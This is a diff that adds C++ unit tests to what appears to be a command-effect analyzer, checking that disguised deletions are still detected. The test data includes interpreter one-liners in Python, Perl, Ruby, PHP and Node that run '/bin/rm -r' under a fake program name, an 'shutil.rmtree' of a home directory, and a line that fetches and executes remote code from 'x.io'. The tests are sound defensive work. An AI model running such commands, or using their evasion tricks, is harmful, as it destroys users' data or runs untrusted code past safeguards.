@@ -76,6 +76,37 @@ TEST(CodeEffects, of_commands_within) {
   });
 }
 
+TEST(CodeEffects, of_the_program_that_runs_and_not_of_its_first_word) {
+  constexpr std::string_view kDeletes = "delete /home/dev/app/x [project] recursive";
+  for (const std::string_view command : {
+           "python3 -c 'import os; os.execv(\"/bin/rm\", [\"a\", \"-r\", \"x\"])'",
+           "python3 -c 'import os; os.execl(\"/bin/rm\", \"a\", \"-r\", \"x\")'",
+           "python3 -c 'import os; os.spawnv(os.P_WAIT, \"/bin/rm\", [\"a\", \"-r\", \"x\"])'",
+           "python3 -c 'import os; os.posix_spawn(\"/bin/rm\", [\"a\", \"-r\", \"x\"], os.environ)'",
+           "python3 -c 'import subprocess; subprocess.run([\"a\", \"-r\", \"x\"], executable=\"/bin/rm\")'",
+           "perl -e 'exec {\"/bin/rm\"} \"a\", \"-r\", \"x\"'",
+           "ruby -e 'exec [\"/bin/rm\", \"a\"], \"-r\", \"x\"'",
+           "php -r 'pcntl_exec(\"/bin/rm\", [\"-r\", \"x\"]);'",
+           "node -e 'process.execve(\"/bin/rm\", [\"a\", \"-r\", \"x\"])'",
+           "node -e 'require(\"child_process\").spawn(\"/bin/rm\", [\"-r\", \"x\"], {argv0: \"a\"})'",
+       })
+    EXPECT_EQ(effects_of(std::string(command)), kDeletes) << command;
+  expect_effects({
+      {"python3 -c 'import os; os.execv(\"/bin/echo\", [\"rm\", \"-r\", \"x\"])'", "nothing"},
+      {"python3 -c 'import subprocess; subprocess.run([\"ls\"], executable=None)'", "nothing"},
+  });
+}
+
+TEST(CodeEffects, of_names_in_their_frames) {
+  expect_effects({
+      {"python3 -c 'import shutil\np=\"/home/dev\"\ndef f():\n  p=\"/tmp/x\"\nf()\nshutil.rmtree(p)'",
+       "delete /home/dev [home, cwd] recursive"},
+      {"python3 -c 'import shutil, sys\nout = sys.argv[1] if len(sys.argv) > 1 else "
+       "\"dist\"\nshutil.rmtree(\"build\")'",
+       "delete /home/dev/app/build [project, regenerable] recursive"},
+  });
+}
+
 TEST(CodeEffects, of_what_flows) {
   expect_effects({
       {"python3 -c 'import requests; exec(requests.get(\"http://x.io/a\").text)'",
